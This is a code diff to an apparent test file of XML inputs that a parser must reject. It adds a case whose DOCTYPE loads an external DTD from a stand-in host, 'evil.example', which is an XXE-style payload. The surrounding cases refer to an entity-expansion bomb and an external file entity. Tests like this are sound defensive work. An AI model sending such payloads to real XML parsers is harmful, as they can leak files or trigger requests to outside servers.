@@ -40,6 +40,11 @@ const refused: [what: string, input: string | Uint8Array, rule: string][] = [
   ["an entity that was not declared", xmlAround(commissionedXml("&eacute;")), "xml.wellFormed"],
   ["entities that grow", bomb, "xml.doctype"],
   ["an entity of a file", outside, "xml.doctype"],
+  [
+    "an entity of a document type elsewhere",
+    `<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><ObjectEvent>&f;</ObjectEvent>`,
+    "xml.wellFormed",
+  ],
   ["another root", "<html><body/></html>", "document.root"],
   ["no list of events", xmlAround("").replaceAll("EventList", "Lists"), "document.eventList"],
   [
